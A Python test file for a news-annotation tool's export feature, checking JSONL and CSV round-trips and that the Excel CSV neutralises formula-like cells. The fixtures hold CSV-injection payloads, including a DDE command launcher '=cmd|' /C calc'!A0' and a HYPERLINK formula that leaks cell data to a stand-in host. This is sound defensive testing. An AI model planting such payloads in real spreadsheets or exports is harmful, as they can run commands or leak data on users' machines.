"""JSONL and CSV exports: every field survives, whatever the text holds; CSV round-trips through pandas."""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest

from helpers import TRICKY_NOTES, TRICKY_TEXT, TRICKY_URL, body, code_tricky, validate
from newsmark import annotations, export
from newsmark.annotations import Rules
from newsmark.cli import main
from newsmark.schemas import AnnotationCreateSchema
from newsmark.store import AnnotationFilter, Store
from newsmark.text import article_text

TEXT, URL, NOTES = TRICKY_TEXT, TRICKY_URL, TRICKY_NOTES


@pytest.fixture
def tricky(data_dir):
    """A store whose quotes and notes hold non-ASCII, emoji, quotes, commas and newlines."""
    with Store(data_dir) as store:
        return code_tricky(store)


@pytest.mark.parametrize("reopened", [False, True], ids=["in-memory", "loaded-from-disk"])
def test_jsonl_one_annotation_a_line_with_its_title(data_dir, tricky, reopened):
    with Store(data_dir) as store:
        if not reopened:
            store.annotations_matching(AnnotationFilter(tag="claim"))  # parse some documents first
        lines = export.render(store, AnnotationFilter(), "jsonl").decode("utf-8").splitlines()
    assert len(lines) == len(tricky)
    for line, stored in zip(lines, tricky, strict=True):
        row = json.loads(line)
        assert row.pop("article_title") == 'Un titre, "cité"'
        validate(row, "annotation")
        assert row == stored


@pytest.mark.parametrize("excel", [False, True])
def test_csv_round_trips_through_pandas(data_dir, tricky, excel):
    with Store(data_dir) as store:
        raw = export.render(store, AnnotationFilter(), "csv", excel=excel)
    assert raw.startswith(b"\xef\xbb\xbf") == excel
    assert b"\r\n" in raw  # RFC 4180 line ends
    frame = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(export.CSV_COLUMNS)
    assert len(frame) == len(tricky)
    for (_, row), stored in zip(frame.iterrows(), tricky, strict=True):
        assert row["id"] == stored["id"] and row["url"] == URL and row["tag"] == stored["tag"]
        assert row["article_title"] == 'Un titre, "cité"'
        assert (row["exact"], row["prefix"], row["suffix"]) == tuple(
            stored["quote"][k] for k in ("exact", "prefix", "suffix")
        )
        assert (int(row["start"]), int(row["end"])) == (
            stored["position"]["start"],
            stored["position"]["end"],
        )
        assert row["note"] == (stored["note"] or "")
        assert (row["annotator"], row["created"], row["updated"]) == (
            stored["annotator"],
            stored["created"],
            stored["updated"],
        )
        assert row["article_version"] == stored["article_sha256"]
        # The offsets still point at the quote in the article text.
        assert TEXT[int(row["start"]) : int(row["end"])] == row["exact"]


def test_export_formats_over_the_api(client, tricky_api):
    for fmt, media, ending in (
        ("json", "application/json", "json"),
        ("jsonl", "application/x-ndjson", "jsonl"),
        ("csv", "text/csv", "csv"),
        ("w3c", 'application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"', "jsonld"),
    ):
        r = client.get(f"/api/export?format={fmt}")
        assert r.status_code == 200 and r.content_type.startswith(media)
        name = rf'attachment; filename="newsmark-export-\d{{8}}T\d{{6}}Z\.{ending}"'
        assert re.fullmatch(name, r.headers["Content-Disposition"])
    csv_excel = client.get("/api/export?format=csv&excel=true").data
    assert csv_excel.startswith(b"\xef\xbb\xbf")
    filtered = client.get("/api/export?format=jsonl&tag=actor").data.decode().splitlines()
    assert [json.loads(line)["tag"] for line in filtered] == ["actor"] * len(filtered) and filtered


@pytest.fixture
def tricky_api(client):
    for n, exact in enumerate(["« oui, 12 % »", '"non, pas ça"']):
        data = body(exact, text=TEXT, url=URL, tag=("actor", "claim")[n], note=NOTES[n])
        assert client.post("/api/annotations", json=data).status_code == 201


def test_cli_writes_csv_for_excel(data_dir, tricky, tmp_path, capsys):
    out = tmp_path / "codes.csv"
    assert main(["export", "--format", "csv", "--excel", "-o", str(out), "--data-dir", str(data_dir)]) == 0
    frame = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame["id"]) == [a["id"] for a in tricky]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): every text column can hold one.
FORMULA_PARAGRAPHS = [
    "-5 degrees in Kyiv, the minister said.",
    '=HYPERLINK("http://x.example/?"&A1,"see") was posted.',
    "+44 20 7946 0000 is the number to call.",
    "@everyone read it; a=1 is not a formula.",
]
FORMULA_TEXT = article_text(FORMULA_PARAGRAPHS)
FORMULA_URL = "https://lite.cnn.com/2024/02/05/world/formula-text"
FORMULA_TITLE = "@SUM(A1:A9)"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")


@pytest.fixture
def formulas(data_dir):
    """Annotations whose quotes, contexts, notes, coders and title begin like formulas; as stored."""
    codes = [  # (exact, note, annotator)
        ("-5 degrees", "=1+1", "=cmd|' /C calc'!A0"),
        ("degrees", "+1, agreed", "@coder"),  # its prefix is "-5 "
        ('=HYPERLINK("http://x.example/?"&A1,"see")', "\t=2", "-coder"),
        ("+44 20 7946 0000", "-", "+coder"),
        ("@everyone", "a=1 inside is fine", "coder a"),
    ]
    made = []
    with Store(data_dir) as store:
        for exact, note, annotator in codes:
            data = body(exact, text=FORMULA_TEXT, url=FORMULA_URL, note=note, annotator=annotator)
            data["article"]["title"] = FORMULA_TITLE
            made.append(annotations.create(store, AnnotationCreateSchema().load(data), Rules())[0])
        # Stored before the input rules refused control characters (or imported so): CR and NUL.
        legacy = {**made[-1], "note": "\r=1+1", "annotator": "\0=1"}
        store.replace_annotation(legacy)
        made[-1] = legacy
    return made


def _rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _expected_rows(stored: list[dict], data_dir) -> list[list[str]]:
    with Store(data_dir) as store:
        article = store.get_article(url=FORMULA_URL)
    # Claims attributed to no one: entity, attributed_to, attributed_entities and the figure's
    # reading are empty; then the article's published, section and authors (when known).
    metadata = [
        article.get("published") or "",
        article.get("section") or "",
        "; ".join(article.get("authors", [])),
    ]
    return [
        [d["id"], d["url"], FORMULA_TITLE, d["tag"], d["quote"]["exact"], d["quote"]["prefix"],
         d["quote"]["suffix"], str(d["position"]["start"]), str(d["position"]["end"]), d["note"] or "",
         d["annotator"], d["created"], d["updated"], d["article_sha256"], *[""] * 7, *metadata]
        for d in stored
    ]  # fmt: skip


def test_plain_csv_keeps_formula_like_cells_byte_true(data_dir, formulas):
    """pandas and R must read exactly what was stored: the plain CSV changes no cell."""
    expected = _expected_rows(formulas, data_dir)
    starts = {cell[0] for row in expected for cell in row if cell}
    assert set(FORMULA_START) <= starts  # the fixture holds every kind of formula start
    with Store(data_dir) as store:
        raw = export.render(store, AnnotationFilter(), "csv")
    assert _rows(raw) == [list(export.CSV_COLUMNS), *expected]
    assert b"'=" not in raw and b"'@" not in raw
    frame = pd.read_csv(io.BytesIO(raw), dtype=str, keep_default_na=False)
    assert list(frame["exact"]) == [d["quote"]["exact"] for d in formulas]
    assert list(frame["annotator"]) == [d["annotator"] for d in formulas]


def test_csv_for_excel_neutralises_every_formula_like_text_cell(data_dir, formulas):
    expected = _expected_rows(formulas, data_dir)
    with Store(data_dir) as store:
        plain = export.render(store, AnnotationFilter(), "csv")
        raw = export.render(store, AnnotationFilter(), "csv", excel=True)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = _rows(raw)
    assert rows[0] == list(export.CSV_COLUMNS)
    neutral = [["'" + c if c.startswith(FORMULA_START) else c for c in row] for row in expected]
    assert rows[1:] == neutral
    # Every kind of text column was touched somewhere: quote, context, note, coder, title.
    touched = {export.CSV_COLUMNS[i] for row in rows[1:] for i, c in enumerate(row) if c.startswith("'")}
    assert touched == {"article_title", "exact", "prefix", "note", "annotator"}
    assert rows[3][4] == "'" + '=HYPERLINK("http://x.example/?"&A1,"see")'
    assert rows[5][9] == "'\r=1+1" and rows[5][10] == "'\0=1"
    # Only the neutralised cells differ from the plain CSV.
    assert len(raw) - 3 - len(plain) == sum(c.startswith(FORMULA_START) for row in expected for c in row)


def test_csv_for_excel_over_the_api(formulas, client):
    coders = [row[10] for row in _rows(client.get("/api/export?format=csv&excel=true").data)]
    assert "'=cmd|' /C calc'!A0" in coders and "'@coder" in coders
    coders = [row[10] for row in _rows(client.get("/api/export?format=csv").data)]
    assert "=cmd|' /C calc'!A0" in coders and "@coder" in coders


def test_csv_for_excel_from_the_cli(formulas, data_dir, tmp_path):
    out = tmp_path / "codes.csv"
    assert main(["export", "--format", "csv", "--excel", "-o", str(out), "--data-dir", str(data_dir)]) == 0
    assert [row[4] for row in _rows(out.read_bytes())][1:4] == [
        "'-5 degrees",
        "degrees",
        "'" + '=HYPERLINK("http://x.example/?"&A1,"see")',
    ]
